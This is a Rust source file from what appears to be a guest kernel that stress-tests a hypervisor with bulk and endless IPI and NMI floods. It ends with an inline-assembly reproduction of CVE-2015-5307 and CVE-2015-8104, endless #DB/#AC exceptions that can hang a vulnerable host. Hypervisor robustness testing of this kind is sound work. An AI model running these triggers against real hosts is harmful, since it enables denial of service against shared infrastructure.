//! Inter-processor interrupts and NMIs by the thousand, and exceptions without end.

use crate::pvh::Boot;
use crate::traps::{INTERRUPTS, NMIS};
use crate::{apic, cpu, println};
use core::arch::asm;
use core::sync::atomic::{AtomicU32, Ordering::SeqCst};

const VECTOR: u32 = 0x40;
/// Delivery mode NMI.
const NMI: u32 = 4 << 8;
/// Destination shorthands.
const SELF: u32 = 1 << 18;
const ALL: u32 = 2 << 18;
const OTHERS: u32 = 3 << 18;

/// NMIs to itself, with interrupts off.
pub fn nmis(_: &Boot) {
    apic::enable();
    let before = NMIS.load(SeqCst);
    for _ in 0..1_000 {
        // The shorthand for oneself takes fixed interrupts only: by number.
        apic::command(NMI | 1 << 14, 0);
    }
    println!("{} NMIs came", NMIS.load(SeqCst) - before);
}

/// Starts the others once, and says how many there are.
fn others() -> u32 {
    static STARTED: AtomicU32 = AtomicU32::new(u32::MAX);
    apic::enable();
    if STARTED.load(SeqCst) == u32::MAX {
        let others = if apic::processors() > 1 { apic::start_others() } else { 0 };
        STARTED.store(others, SeqCst);
    }
    STARTED.load(SeqCst)
}

/// Interrupts to itself, to all and to the others, in every delivery mode that is not an end.
pub fn flood(_: &Boot) {
    let others = others();
    let before = INTERRUPTS.load(SeqCst);
    cpu::enable_interrupts();
    for round in 0..2_000u32 {
        for shorthand in [SELF, ALL, OTHERS] {
            apic::command((VECTOR + round % 64) | 1 << 14 | shorthand, 0);
        }
        // Lowest priority, SMI and the reserved modes, to nobody and to everybody.
        for mode in [1 << 8, 2 << 8, 3 << 8, 7 << 8] {
            apic::command(mode | VECTOR | 1 << 14, round);
            apic::command(mode | VECTOR | 1 << 14 | 1 << 11, u32::MAX);
        }
    }
    cpu::disable_interrupts();
    println!("{others} other processors, {} interrupts", INTERRUPTS.load(SeqCst) - before);
}

/// NMIs for ever.
pub fn nmis_without_end(_: &Boot) {
    apic::enable();
    loop {
        apic::command(NMI | 1 << 14, 0);
    }
}

/// Interrupts to everybody for ever.
pub fn flood_without_end(_: &Boot) {
    others();
    cpu::enable_interrupts();
    loop {
        apic::command(VECTOR | 1 << 14 | ALL, 0);
    }
}

/// A #DB and an #AC that each raise themselves again in their delivery (CVE-2015-5307,
/// CVE-2015-8104): the processor never gets to an instruction, only its host can.
pub fn exceptions_without_end(_: &Boot) {
    // SAFETY: does not come back. The stack is watched, so that the delivery of the exception
    // raises it again.
    unsafe {
        asm!(
            "lea rax, [rsp - 64]",
            "mov dr0, rax",
            "lea rax, [rsp - 48]",
            "mov dr1, rax",
            "mov rax, 0xff000f",
            "mov dr7, rax",
            "2: pushfq",
            "or qword ptr [rsp], 0x100",
            "popfq",
            "jmp 2b",
            out("rax") _,
        );
    }
}
